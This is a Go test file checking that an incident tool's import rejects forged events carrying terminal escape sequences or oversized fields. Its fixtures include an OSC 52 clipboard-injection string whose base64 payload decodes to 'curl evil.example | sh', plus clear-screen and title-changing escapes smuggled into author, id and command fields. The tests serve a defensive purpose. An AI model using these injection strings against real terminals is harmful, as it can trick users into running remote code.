package export_test

import (
	"bytes"
	"context"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sitrep-dev/sitrep/export"
	"github.com/sitrep-dev/sitrep/model"
	"github.com/sitrep-dev/sitrep/storage/storagetest"
)

const osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"

// An export file holding a forged event (right hash, right chain, a hostile
// field) is refused whole by import, naming the event and its author.
func TestImportRefusesForgedEvents(t *testing.T) {
	ctx := context.Background()
	note := model.NotePayload{Kind: model.NoteKindNote, Text: "looks harmless"}
	cases := []struct {
		name  string
		kind  model.EventKind
		body  any
		edit  func(*model.Event)
		field string
	}{
		{"OSC 52 in the kind", "note" + osc52, note, nil, "event kind"},
		{"clear screen in the kind", "evil\x1b[2J", note, nil, "event kind"},
		{"title OSC in the author", model.EventNote, note, func(e *model.Event) { e.Author = "mallory\x1b]0;pwned\x07" }, "author"},
		{"escape in the event id", model.EventNote, note, func(e *model.Event) { e.ID = "0190\x1b[2J" }, "event id"},
		{"OSC 52 in the incident id", model.EventNote, note, func(e *model.Event) { e.IncidentID = fixtureIncident + osc52 }, "incident id"},
		{"escape in the note kind", model.EventNote, json.RawMessage(`{"kind":"note\u001b[2J","text":"hi"}`), nil, "note kind"},
		{"escape in the role name", model.EventRoleAssigned, model.RoleAssignedPayload{Role: "commander\x1b[2J", Holder: "mallory"}, nil, "role"},
		{"a 2 MiB runbook", model.EventRunbookAttached, model.RunbookAttachedPayload{Name: "big", Title: "Big", Source: "team", Text: strings.Repeat("- [ ] step\n", 2<<20/11)}, nil, "1 MiB"},
		{"OSC 52 in a command's output", model.EventEvidence, model.EvidencePayload{Command: "ls", Output: osc52, OutputBytes: 40}, nil, "output"},
		{"escape in a command", model.EventEvidence, model.EvidencePayload{Command: "ls\x1b[2J"}, nil, "command"},
		{"a 100 KB output", model.EventEvidence, model.EvidencePayload{Command: "seq", Output: strings.Repeat("9\n", 50<<10), OutputBytes: 100 << 10}, nil, "output"},
		{"the year 10000 in a payload", model.EventDeclared, json.RawMessage(`{"title":"t","kind":"outage","severity":2,"status":"investigating","detected_at":"9999-12-31T23:59:59Z"}`),
			func(e *model.Event) {
				e.Payload = json.RawMessage(strings.Replace(string(e.Payload), "9999-12-31", "10000-01-01", 1))
			}, "payload"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			src := storeWith(t, incidentFixture(t))
			f := &storagetest.Forger{Origin: "mallory-store", Author: "mallory@evil", At: fixtureStart.Add(time.Hour)}
			e := f.Event(fixtureIncident, c.kind, c.body, c.edit)
			if err := storagetest.Insert(ctx, src, e); err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			if err := export.WriteAll(ctx, src, &out, nil); err != nil {
				t.Fatal(err)
			}
			dst := storeWith(t, nil)
			_, err := export.Import(ctx, dst, writeTemp(t, out.Bytes()))
			if err == nil {
				t.Fatal("import accepted the forged event")
			}
			msg := err.Error()
			t.Log(msg)
			for _, want := range []string{plainOrQuoted(e.ID), plainOrQuoted(e.Author), c.field} {
				if !strings.Contains(msg, want) {
					t.Errorf("the refusal does not name %q: %s", want, msg)
				}
			}
			if strings.ContainsAny(msg, "\x1b\x07") {
				t.Errorf("the refusal carries a control character: %q", msg)
			}
			if n := countEvents(t, dst); n != 0 {
				t.Errorf("the refused import stored %d events", n)
			}
		})
	}
}

func plainOrQuoted(s string) string {
	if model.ValidID("", s) == nil || model.ValidName("", s) == nil && !strings.ContainsAny(s, " \\\"'") {
		return s
	}
	q := strconv.Quote(s)
	return q[1 : len(q)-1]
}
